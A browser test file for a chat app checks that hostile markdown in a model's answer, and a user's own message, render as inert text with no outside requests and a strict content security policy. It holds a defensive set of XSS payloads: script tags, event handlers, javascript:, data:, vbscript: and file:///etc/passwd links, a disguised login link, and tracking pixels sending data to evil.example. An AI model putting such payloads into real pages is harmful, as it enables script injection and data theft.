"""Nothing that a model writes runs, loads or leads anywhere by itself."""

from playwright.sync_api import Request, expect

from tests.browser.chat import Chat
from tests.browser.conftest import ThreadedProvider
from tests.server import ParleyServer

HOSTILE = """<script>window.stolen = 1</script>

<img src="https://evil.example/a.png" onerror="window.stolen = 2">

![pixel](https://evil.example/pixel.png?q=secret) and [![badge](https://evil.example/b.svg)](https://evil.example/)

[click me](javascript:window.stolen=3) [data](data:text/html,<script>window.stolen=4</script>) [file](file:///etc/passwd)

[https://bank.example](https://evil.example/login)

[good](https://example.org/path) <https://example.org/auto> <javascript:window.stolen=5>

<style>body { background: url(https://evil.example/c.png) }</style><iframe src="https://evil.example/"></iframe>

<svg onload="window.stolen=6"><a href="https://evil.example">x</a></svg>

```html
<script src="https://evil.example/x.js"></script>
```

| <b onmouseover="window.stolen=7">a</b> | b |
|---|---|
| ![](https://evil.example/d.png) | [x](vbscript:msgbox) |

[ref]: https://evil.example/ "title" """


def test_hostile_markdown_is_text(chat: Chat, provider: ThreadedProvider, parley: ParleyServer) -> None:
    foreign: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith(parley.url):
            foreign.append(request.url)

    chat.page.on("request", note)
    provider.play(text=HOSTILE)
    chat.choose("openai/gpt-4o-mini").send("be evil").ended()
    expect(chat.answer).to_contain_text("<script>window.stolen = 1</script>")
    parts = chat.answer.locator("[data-message-parts]")
    expect(parts.locator("img, script, iframe, style, object, embed, form")).to_have_count(0)
    expect(parts.locator("[onload], [onerror], [onmouseover], [style]")).to_have_count(0)
    links = parts.locator("a").evaluate_all("all => all.map(a => a.href)")
    assert "https://example.org/path" in links
    expect(parts).to_contain_text("https://bank.example (evil.example)")
    assert all(link.startswith("https://") for link in links)
    assert set(parts.locator("a").evaluate_all("all => all.map(a => a.rel)")) == {
        "noopener noreferrer nofollow"
    }
    chat.page.reload()
    chat.ended()
    assert chat.copied(chat.answer) == HOSTILE
    assert chat.page.evaluate("window.stolen") is None
    assert foreign == []


def test_what_a_person_writes_is_text_too(chat: Chat) -> None:
    chat.choose("demo/chat").send("<img src=x onerror=alert(1)> **not bold**").ended()
    expect(chat.question).to_contain_text("<img src=x onerror=alert(1)> **not bold**")
    expect(chat.page.locator(".sessions img, .message img")).to_have_count(0)


def test_the_page_allows_no_script_of_others(chat: Chat) -> None:
    answer = chat.page.goto("/")
    assert answer
    policy = answer.headers["content-security-policy"]
    assert "unsafe" not in policy
    assert "default-src 'none'" in policy
